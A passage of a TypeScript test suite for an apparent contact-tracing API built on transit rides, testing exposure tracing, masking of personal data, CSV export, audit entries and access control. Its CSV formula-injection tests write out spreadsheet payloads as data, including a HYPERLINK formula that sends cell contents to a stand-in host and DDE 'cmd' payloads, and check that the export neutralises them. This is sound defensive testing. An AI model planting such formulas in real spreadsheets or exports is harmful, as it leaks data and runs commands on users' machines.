      await k.ride(p, v, i * 3 * MIN); // 3, 6, 9 close; 12, 15 possible
      people.push(p);
    }
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    const all = await k.exposures(c.id);
    expect(all.items.map((i) => i.personId)).toEqual(people.map((p) => p.id));

    const seen: string[] = [];
    const sizes: number[] = [];
    let cursor: string | null = null;
    for (let guard = 0; guard < 10; guard++) {
      const page: ExposurePage = await k.exposures(c.id, `?limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      expect(page.total).toBe(5);
      expect(page.caseRides).toBe(1);
      seen.push(...page.items.map((i) => i.personId));
      sizes.push(page.items.length);
      cursor = page.nextCursor;
      if (!cursor) break;
    }
    expect(sizes).toEqual([2, 2, 1]);
    expect(seen).toEqual(people.map((p) => p.id));
    expect(new Set(seen).size).toBe(5);

    const exact = await k.exposures(c.id, '?limit=5');
    expect(exact.items).toHaveLength(5);
    expect(exact.nextCursor).toBeNull();
    const beyond = await k.exposures(c.id, '?limit=2&cursor=10');
    expect(beyond).toMatchObject({ total: 5, items: [], nextCursor: null });

    const get = (q: string) =>
      t.http().get(`/v1/cases/${c.id}/exposures${q}`).set('authorization', w.tokens.official);
    expectError(await get('?cursor=abc'), 400, 'validation_failed');
    expectError(await get('?cursor=-2'), 400, 'validation_failed');
    expectError(await get('?cursor=1.5'), 400, 'validation_failed');
    expectError(await get('?limit=0'), 400, 'validation_failed');
    expectError(await get('?limit=201'), 400, 'validation_failed');
    expectError(await get('?degree=3'), 400, 'validation_failed');
    expectError(await get('?bogus=1'), 400, 'validation_failed');
  });
});

describe('exposures: degree 2', () => {
  it('adds contacts of degree-1 close contacts (via), keeps degree-1 persons at degree 1, does not expand possible ones', async () => {
    const x = await k.vehicle('bus');
    const y = await k.vehicle('bus');
    const z = await k.vehicle('bus');
    const y0 = await k.vehicle('bus');
    const s = await k.person();
    const close1 = await k.person();
    const possible1 = await k.person();
    const second = await k.person();
    const viaPossible = await k.person();
    const tooFar = await k.person();
    const beforeContact = await k.person();

    await k.ride(s, x, 0);
    await k.ride(close1, x, 2 * MIN); // degree 1 close
    await k.ride(possible1, x, 20 * MIN); // degree 1 possible
    // close1 later (after the infectious window ends) meets `second` and again possible1.
    await k.ride(close1, y, HOUR);
    await k.ride(second, y, HOUR + 3 * MIN);
    await k.ride(possible1, y, HOUR + 5 * MIN);
    await k.ride(tooFar, y, HOUR + 31 * MIN);
    // possible1 is not expanded.
    await k.ride(possible1, z, 2 * HOUR);
    await k.ride(viaPossible, z, 2 * HOUR + MIN);
    // Before close1's first contact with the case: not traced.
    await k.ride(close1, y0, -30 * MIN);
    await k.ride(beforeContact, y0, -29 * MIN);

    const c = await k.openCase({ phone: s.phone }, -HOUR, 30 * MIN);
    const d1 = await k.exposures(c.id);
    expect(d1.degree).toBe(1);
    expect(d1.items.map((i) => i.personId)).toEqual([close1.id, possible1.id]);

    const d2 = await k.exposures(c.id, '?degree=2');
    expect(d2).toMatchObject({ degree: 2, caseRides: 1, total: 3 });
    expect(d2.items.map((i) => i.personId)).toEqual([close1.id, possible1.id, second.id]);
    const [e1, e2, e3] = d2.items;
    expect(e1).toMatchObject({ degree: 1, level: 'close' });
    expect(e1!.contacts).toEqual(d1.items[0]!.contacts);
    expect(e2).toMatchObject({ degree: 1, level: 'possible' });
    expect(e2!.contacts).toEqual(d1.items[1]!.contacts);
    expect(e3).toMatchObject({
      degree: 2,
      level: 'close',
      name: second.name,
      firstContactAt: iso(HOUR + 3 * MIN),
    });
    expect(e3!.contacts).toEqual([
      {
        carrier: { id: y.id, kind: 'bus', plate: y.plate, route: y.route, city: y.city },
        caseBoardedAt: iso(HOUR),
        contactBoardedAt: iso(HOUR + 3 * MIN),
        gapMinutes: 3,
        level: 'close',
        degree: 2,
        via: close1.id,
      },
    ]);
    const ids = d2.items.map((i) => i.personId);
    for (const p of [s, viaPossible, tooFar, beforeContact]) expect(ids).not.toContain(p.id);

    const csv = csvRecords(await k.csv(c.id, '?degree=2'));
    expect(csv.sort(byKey)).toEqual(csvFromPage(d2).sort(byKey));
    expect(csv.find((r) => r.person_id === second.id)).toMatchObject({ degree: '2', via: close1.id });
  });
});

describe('exposures: configuration', () => {
  let t2: TestApp;
  let k2: Kit;
  let t3: TestApp;
  let k3: Kit;
  beforeAll(async () => {
    t2 = await createTestApp({
      ...NO_IP_LIMIT,
      TRACE_BUS_WINDOW_MINUTES: '5',
      TRACE_TAXI_CLOSE_MINUTES: '2',
    });
    k2 = new Kit(t2, await seedWorld(t2));
    t3 = await createTestApp({ ...NO_IP_LIMIT, TRACE_MAX_DEGREE1_FOR_DEGREE2: '1' });
    k3 = new Kit(t3, await seedWorld(t3));
  });
  afterAll(async () => {
    await t2?.close();
    await t3?.close();
  });

  /** The same rides in an app: bus contacts at 5 min, 5 min + 1 s, 20 min, −30 min; a taxi contact at 3 min. */
  async function scenario(kit: Kit) {
    const bus = await kit.vehicle('bus');
    const taxi = await kit.vehicle('taxi');
    const s = await kit.person();
    await kit.ride(s, bus, 0);
    await kit.ride(s, taxi, HOUR);
    const offsets = [5 * MIN, 5 * MIN + SEC, 20 * MIN, -30 * MIN];
    const busPeople: Person[] = [];
    for (const o of offsets) {
      const p = await kit.person();
      await kit.ride(p, bus, o);
      busPeople.push(p);
    }
    const taxiPerson = await kit.person();
    await kit.ride(taxiPerson, taxi, HOUR + 3 * MIN);
    const c = await kit.openCase({ phone: s.phone }, -HOUR, 2 * HOUR);
    return { page: await kit.exposures(c.id), busPeople, taxiPerson };
  }

  it('TRACE_BUS_WINDOW_MINUTES=5 and TRACE_TAXI_CLOSE_MINUTES=2 change the result', async () => {
    const def = await scenario(k);
    expect(def.page.total).toBe(5);
    expect(def.page.items.find((i) => i.personId === def.taxiPerson.id)!.level).toBe('close');
    for (const p of def.busPeople) expect(def.page.items.some((i) => i.personId === p.id)).toBe(true);

    const conf = await scenario(k2);
    expect(conf.page.total).toBe(2);
    const [at5] = conf.busPeople;
    expect(conf.page.items.find((i) => i.personId === at5!.id)).toMatchObject({
      level: 'close',
      contacts: [{ gapMinutes: 5 }],
    });
    for (const p of conf.busPeople.slice(1))
      expect(conf.page.items.some((i) => i.personId === p.id)).toBe(false);
    expect(conf.page.items.find((i) => i.personId === conf.taxiPerson.id)).toMatchObject({
      level: 'possible',
      contacts: [{ gapMinutes: 3, level: 'possible' }],
    });
  });

  it('TRACE_MAX_DEGREE1_FOR_DEGREE2=1: two close degree-1 contacts → 422 too_many_contacts', async () => {
    const v = await k3.vehicle('bus');
    const s = await k3.person();
    await k3.ride(s, v, 0);
    const a = await k3.person();
    const b = await k3.person();
    await k3.ride(a, v, MIN);
    await k3.ride(b, v, 2 * MIN);
    const c = await k3.openCase({ phone: s.phone }, -HOUR, HOUR);
    const d1 = await k3.exposures(c.id);
    expect(d1.total).toBe(2);
    const get = (path: string) => t3.http().get(path).set('authorization', k3.w.tokens.official);
    expectError(await get(`/v1/cases/${c.id}/exposures?degree=2`), 422, 'too_many_contacts');
    expectError(await get(`/v1/cases/${c.id}/exposures.csv?degree=2`), 422, 'too_many_contacts');
  });

  it('TRACE_MAX_DEGREE1_FOR_DEGREE2=1: possible contacts do not count toward the limit', async () => {
    const v = await k3.vehicle('bus');
    const s = await k3.person();
    await k3.ride(s, v, 0);
    const a = await k3.person();
    const b = await k3.person();
    await k3.ride(a, v, MIN); // close
    await k3.ride(b, v, 25 * MIN); // possible
    const c = await k3.openCase({ phone: s.phone }, -HOUR, HOUR);
    const d2 = await k3.exposures(c.id, '?degree=2');
    expect(d2.total).toBe(2);
  });
});

describe('masking', () => {
  let readOnly: string;
  let readOnlyId: string;
  const S = { name: '张小三', phone: '13812345678', idNumber: withCheckChar('31010119800101123') };
  const A = { name: '欧阳娜娜', phone: '13912348765', idNumber: withCheckChar('44030519920202456') };
  const M = { name: '李大四', phone: '15011112222', idNumber: withCheckChar('11010819750505789') };
  const E = { name: 'Li Lei', phone: '18633334444' };
  const RAW = [
    S.name,
    S.phone,
    S.idNumber,
    A.name,
    A.phone,
    A.idNumber,
    M.name,
    M.phone,
    M.idNumber,
    E.name,
    E.phone,
  ];
  let caseId: string;
  let subject: Person;
  let app: Person;
  let second: Person;

  beforeAll(async () => {
    const client = await createClient(t.db, { name: 'o', role: 'official', scopes: ['trace:read'] });
    readOnlyId = client.clientId;
    readOnly = await clientToken(t, client);
    const v = await k.vehicle('bus', { staff: true });
    const y = await k.vehicle('bus');
    subject = await k.person(S);
    app = await k.person(A);
    second = await k.person(E);
    await k.ride(subject, v, 0);
    await k.ride(app, v, 2 * MIN);
    await k.manualRide(v, M, 3 * MIN);
    await k.ride(app, y, HOUR);
    await k.ride(second, y, HOUR + MIN);
  });

  it('a trace:read-only official sees masked names and phones and no ID numbers anywhere', async () => {
    const created = await t
      .http()
      .post('/v1/cases')
      .set('authorization', readOnly)
      .send({
        subject: { idNumber: S.idNumber },
        infectiousFrom: iso(-HOUR),
        infectiousTo: iso(30 * MIN),
        caseNumber: 'C-mask',
        reason: 'positive PCR test',
      });
    expect(created.status).toBe(201);
    caseId = created.body.id as string;
    expect(created.body.subject).toEqual({ name: '张*三', phone: '138****5678', passengers: 1 });
    expect(created.body.subject.idNumber ?? null).toBeNull();
    expectNoRaw(created.body, RAW);

    const got = await t.http().get(`/v1/cases/${caseId}`).set('authorization', readOnly).expect(200);
    expect(got.body.subject).toEqual({ name: '张*三', phone: '138****5678', passengers: 1 });
    expectNoRaw(got.body, RAW);

    const list = await t
      .http()
      .get('/v1/cases?status=open&limit=200')
      .set('authorization', readOnly)
      .expect(200);
    expect((list.body.items as Case[]).some((c) => c.id === caseId)).toBe(true);
    expectNoRaw(list.body, RAW);

    for (const q of ['', '?degree=2', '?limit=1', '?limit=1&cursor=1', '?reveal=true']) {
      const res = await t.http().get(`/v1/cases/${caseId}/exposures${q}`).set('authorization', readOnly);
      if (q === '?reveal=true') {
        // Unmasking is decided by the token's scopes only; there is no reveal switch to try.
        expect(res.status).toBe(400);
        expect(res.body.error.code).toBe('validation_failed');
        continue;
      }
      expect(res.status, q).toBe(200);
      const page = res.body as ExposurePage;
      expect(page.revealed).toBe(false);
      expectNoRaw(page, RAW);
      for (const item of page.items) {
        const raw = [A, M, E].find(
          (p) => maskName(p.name) === item.name && maskPhone(p.phone) === item.phone,
        );
        expect(raw, JSON.stringify(item)).toBeDefined();
        expect(item.idNumber).toBeNull();
      }
    }
    const d2 = await k.exposures(caseId, '?degree=2', readOnly);
    expect(d2.items.map((i) => [i.personId, i.name, i.phone, i.idNumber, i.registration])).toEqual([
      [app.id, '欧**娜', '139****8765', null, 'app'],
      [expect.any(String), '李*四', '150****2222', null, 'manual'],
      [second.id, 'L* L**', '186****4444', null, 'app'],
    ]);

    for (const q of ['', '?degree=2']) {
      const csv = await k.csv(caseId, q, readOnly);
      expectNoRaw(csv.text, RAW);
      const records = csvRecords(csv);
      expect(records.length).toBeGreaterThan(0);
      for (const r of records) {
        expect(r.id_number).toBe('');
        expect([maskName(A.name), maskName(M.name), maskName(E.name)]).toContain(r.name);
        expect([maskPhone(A.phone), maskPhone(M.phone), maskPhone(E.phone)]).toContain(r.phone);
      }
    }
  });

  it('a full official (trace:reveal) gets the raw values and revealed: true', async () => {
    const got = await t.http().get(`/v1/cases/${caseId}`).set('authorization', w.tokens.official).expect(200);
    expect(got.body.subject).toEqual({ name: S.name, phone: S.phone, passengers: 1 });
    const page = await k.exposures(caseId, '?degree=2');
    expect(page.revealed).toBe(true);
    expect(page.items.map((i) => [i.name, i.phone, i.idNumber, i.registration, i.degree])).toEqual([
      [A.name, A.phone, A.idNumber, 'app', 1],
      [M.name, M.phone, M.idNumber, 'manual', 1],
      [E.name, E.phone, null, 'app', 2],
    ]);
    const csv = csvRecords(await k.csv(caseId, '?degree=2'));
    expect(csv.sort(byKey)).toEqual(csvFromPage(page).sort(byKey));
  });

  it('the read-only official may not notify; closing answers masked too', async () => {
    expectError(
      await t.http().post(`/v1/cases/${caseId}/notify`).set('authorization', readOnly).send({}),
      403,
      'forbidden',
    );
    const closed = await t.http().post(`/v1/cases/${caseId}/close`).set('authorization', readOnly).send({});
    expect(closed.status).toBe(200);
    expect(closed.body).toMatchObject({ status: 'closed', subject: { name: '张*三', phone: '138****5678' } });
    expectNoRaw(closed.body, RAW);
    // Who did what: the read-only official opened, read (masked) and closed; the full official revealed.
    const entries = await k.audit(caseId);
    const actorsOf = (action: string) =>
      new Set(entries.filter((e) => e.action === action).map((e) => e.actor));
    expect(actorsOf('case.open')).toEqual(new Set([readOnlyId]));
    expect(actorsOf('exposures.read')).toEqual(new Set([readOnlyId]));
    expect(actorsOf('exposures.reveal')).toEqual(new Set([w.official.clientId]));
    expect(actorsOf('exposures.export')).toEqual(new Set([readOnlyId, w.official.clientId]));
    expect(actorsOf('case.close')).toEqual(new Set([readOnlyId]));
  });
});

describe('CSV export', () => {
  it('text/csv, UTF-8 BOM, header, one line per contact, same data as the exposures page', async () => {
    const bus = await k.vehicle('bus');
    const metro = await k.vehicle('metro');
    const s = await k.person();
    await k.ride(s, bus, 0);
    await k.ride(s, metro, HOUR);
    const p = await k.person();
    await k.ride(p, bus, 5 * MIN);
    await k.ride(p, metro, HOUR + MIN);
    const q = await k.person();
    await k.ride(q, bus, 25 * MIN);
    const c = await k.openCase({ phone: s.phone }, -HOUR, 2 * HOUR);
    const page = await k.exposures(c.id);

    const res = await k.csv(c.id);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="case-${c.id}-exposures.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    expect(res.text.slice(1).split('\r\n')[0]).toBe(EXPOSURE_CSV_COLUMNS.join(','));
    expect(res.text.endsWith('\r\n')).toBe(true);
    const records = csvRecords(res);
    expect(records).toHaveLength(3);
    expect(records.sort(byKey)).toEqual(csvFromPage(page).sort(byKey));
    expect(records.filter((r) => r.person_id === p.id)).toHaveLength(2);
    expect(records.find((r) => r.person_id === q.id)).toMatchObject({
      name: q.name,
      phone: q.phone,
      person_level: 'possible',
      contact_level: 'possible',
      gap_minutes: '25',
      degree: '1',
      via: '',
      carrier_kind: 'bus',
    });
    expectError(
      await t.http().get(`/v1/cases/${c.id}/exposures.csv?limit=1`).set('authorization', w.tokens.official),
      400,
      'validation_failed',
    );
  });

  it('an empty trace is a header-only CSV', async () => {
    const s = await k.person();
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);
    const res = await k.csv(c.id);
    expect(res.text).toBe(`\uFEFF${EXPOSURE_CSV_COLUMNS.join(',')}\r\n`);
  });

  it('formula injection: route, city and name cells starting with = + - @ tab CR are neutralised', async () => {
    const tooLong = await t.http().post('/v1/carriers').set('authorization', w.tokens.operator).send({
      kind: 'bus',
      plate: '粤B99999',
      route: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      city: '深圳',
    });
    expectError(tooLong, 400, 'validation_failed'); // 51 > 40 characters: the 40-character variant below

    const payloads: { route: string; city: string }[] = [
      { route: '=HYPERLINK("http://evil.example/?l="&A1)', city: "=cmd|' /C calc'!A0" },
      { route: '@SUM(1+1)', city: '+1+1' },
      { route: '-2+3', city: '\t=1+2' },
      { route: '\r=3+4', city: '\t@A1' },
      { route: "+cmd|' /C notepad'!A0", city: '\r-1' },
    ];
    const vehicles: Vehicle[] = [];
    for (const p of payloads) vehicles.push(await k.vehicle('bus', p));
    // Route and city are stored trimmed; every stored value still starts with a formula character.
    for (const v of vehicles) {
      expect(v.route).toMatch(FORMULA_START);
      expect(v.city).toMatch(FORMULA_START);
    }
    const s = await k.person();
    const contact = await k.person({ name: '-王五', phone: newPhone(next()) });
    for (const [i, v] of vehicles.entries()) {
      await k.ride(s, v, i * 10 * MIN);
      await k.ride(contact, v, i * 10 * MIN + MIN);
    }
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);

    const readOnly = await clientToken(
      t,
      await createClient(t.db, { name: 'o', role: 'official', scopes: ['trace:read'] }),
    );
    for (const token of [w.tokens.official, readOnly]) {
      const res = await k.csv(c.id, '', token);
      const records = csvRecords(res);
      expect(records).toHaveLength(vehicles.length);
      for (const r of records) {
        for (const cell of Object.values(r)) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
        const v = vehicles.find((x) => x.plate === r.plate)!;
        expect(r.route).toBe(`'${v.route}`);
        expect(r.city).toBe(`'${v.city}`);
        expect(r.name!.startsWith("'-")).toBe(true);
      }
      expect(records[0]!.name).toBe(token === readOnly ? "'-*五" : "'-王五");
      // No raw line starts with a formula character either (quoted cells start with a quote).
      for (const line of res.text.slice(1).split('\r\n')) expect(line).not.toMatch(FORMULA_START);
    }
  });

  describe('csvCell / toCsv', () => {
    it.each([
      [null, ''],
      [undefined, ''],
      [0, '0'],
      [2.5, '2.5'],
      ['深圳', '深圳'],
      ['=1+1', "'=1+1"],
      [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
      ],
      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
      ['@SUM(1+1)', "'@SUM(1+1)"],
      ['+1+1', "'+1+1"],
      ['-2+3', "'-2+3"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
      ['a,b', '"a,b"'],
      ['say "hi"', '"say ""hi"""'],
      ['two\nlines', '"two\nlines"'],
      [' padded ', '" padded "'],
      ["it's", "it's"],
    ] as [string | number | null | undefined, string][])('csvCell(%j) → %j', (value, cell) => {
      expect(csvCell(value)).toBe(cell);
      if (typeof value === 'string') {
        const [[parsed]] = parseCsv(`${cell}\r\n`) as [[string]];
        expect(parsed).toBe(FORMULA_START.test(value) ? `'${value}` : value);
      }
    });

    it('toCsv: BOM, CRLF, header first, every cell escaped; parses back', () => {
      const text = toCsv(
        ['a', 'b', 'c'],
        [
          ['=1+1', null, 3],
          ['x,"y"', '@z', '\r\n-'],
        ],
      );
      expect(text).toBe(`\uFEFFa,b,c\r\n'=1+1,,3\r\n"x,""y""",'@z,"'\r\n-"\r\n`);
      expect(parseCsv(text.slice(1))).toEqual([
        ['a', 'b', 'c'],
        ["'=1+1", '', '3'],
        ['x,"y"', "'@z", "'\r\n-"],
      ]);
      expect(toCsv(['only'], [])).toBe('\uFEFFonly\r\n');
    });
  });
});

describe('audit of exposure reads', () => {
  it('every read adds one entry: exposures.read / exposures.reveal / exposures.export with people', async () => {
    const client = await createClient(t.db, { name: 'o', role: 'official', scopes: ['trace:read'] });
    const readOnly = await clientToken(t, client);
    const v = await k.vehicle('bus');
    const s = await k.person();
    await k.ride(s, v, 0);
    for (const o of [MIN, 2 * MIN, 20 * MIN]) await k.ride(await k.person(), v, o);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    expect((await k.audit(c.id)).map((e) => e.action)).toEqual(['case.open']);

    await k.exposures(c.id, '', readOnly);
    await k.exposures(c.id, '?limit=2', w.tokens.official);
    await k.exposures(c.id, '?limit=2&cursor=2', readOnly);
    await k.exposures(c.id, '?limit=2&cursor=4', w.tokens.official);
    await k.exposures(c.id, '?degree=2', readOnly);
    await k.csv(c.id, '', w.tokens.official);
    await k.csv(c.id, '', readOnly);

    const entries = await k.audit(c.id);
    expect(entries.map((e) => [e.action, e.actor, e.people, e.caseId])).toEqual([
      ['case.open', w.official.clientId, 1, c.id],
      ['exposures.read', client.clientId, 3, c.id],
      ['exposures.reveal', w.official.clientId, 2, c.id],
      ['exposures.read', client.clientId, 1, c.id],
      ['exposures.reveal', w.official.clientId, 0, c.id],
      ['exposures.read', client.clientId, 3, c.id],
      ['exposures.export', w.official.clientId, 3, c.id],
      ['exposures.export', client.clientId, 3, c.id],
    ]);
    for (const e of entries) expect(e.requestId).toMatch(/^[0-9a-f-]{36}$/);
    expect(new Set(entries.map((e) => e.requestId)).size).toBe(entries.length);
    for (let i = 1; i < entries.length; i++) expect(entries[i]!.seq).toBeGreaterThan(entries[i - 1]!.seq);
  });

  it('failed reads add no entry', async () => {
    const s = await k.person();
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);
    await t
      .http()
      .get(`/v1/cases/${c.id}/exposures?cursor=x`)
      .set('authorization', w.tokens.official)
      .expect(400);
    await t.http().get(`/v1/cases/${c.id}/exposures`).set('authorization', w.tokens.staff).expect(403);
    expect((await k.audit(c.id)).map((e) => e.action)).toEqual(['case.open']);
  });
});

describe('access', () => {
  it('passenger, staff, operator and admin tokens → 403 forbidden on every case route; no token → 401', async () => {
    const s = await k.person();
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);
    const body = {
      subject: { phone: s.phone },
      infectiousFrom: iso(-HOUR),
      infectiousTo: iso(0),
      caseNumber: 'C-access',
      reason: 'positive PCR test',
    };
    const routes: ['get' | 'post', string, object?][] = [
      ['post', '/v1/cases', body],
      ['get', '/v1/cases'],
      ['get', '/v1/cases?status=open'],
      ['get', `/v1/cases/${c.id}`],
      ['post', `/v1/cases/${c.id}/close`, {}],
      ['get', `/v1/cases/${c.id}/exposures`],
      ['get', `/v1/cases/${c.id}/exposures?degree=2`],
      ['get', `/v1/cases/${c.id}/exposures.csv`],
      ['post', `/v1/cases/${c.id}/notify`, {}],
      ['get', `/v1/cases/${c.id}/notifications`],
    ];
    const call = (method: 'get' | 'post', path: string, send: object | undefined, auth?: string) => {
      const req =
        method === 'get'
          ? t.http().get(path)
          : t
              .http()
              .post(path)
              .send(send ?? {});
      return auth ? req.set('authorization', auth) : req;
    };
    const tokens = {
      passenger: s.auth,
      staff: w.tokens.staff,
      operator: w.tokens.operator,
      admin: w.tokens.admin,
    };
    for (const [method, path, send] of routes) {
      for (const [who, auth] of Object.entries(tokens)) {
        const res = await call(method, path, send, auth);
        expect({ who, method, path, status: res.status, code: res.body?.error?.code }).toEqual({
          who,
          method,
          path,
          status: 403,
          code: 'forbidden',
        });
      }
      const anon = await call(method, path, send);
      expect({ method, path, status: anon.status, code: anon.body?.error?.code }).toEqual({
        method,
        path,
        status: 401,
        code: 'auth_required',
      });
      const bad = await call(method, path, send, 'Bearer not.a.token');
      expect({ method, path, status: bad.status, code: bad.body?.error?.code }).toEqual({
        method,
        path,
        status: 401,
        code: 'token_invalid',
      });
    }
    const still = await t.http().get(`/v1/cases/${c.id}`).set('authorization', w.tokens.official).expect(200);
    expect(still.body.status).toBe('open');
    expect((await k.audit(c.id)).map((e) => e.action)).toEqual(['case.open']);
  });
});
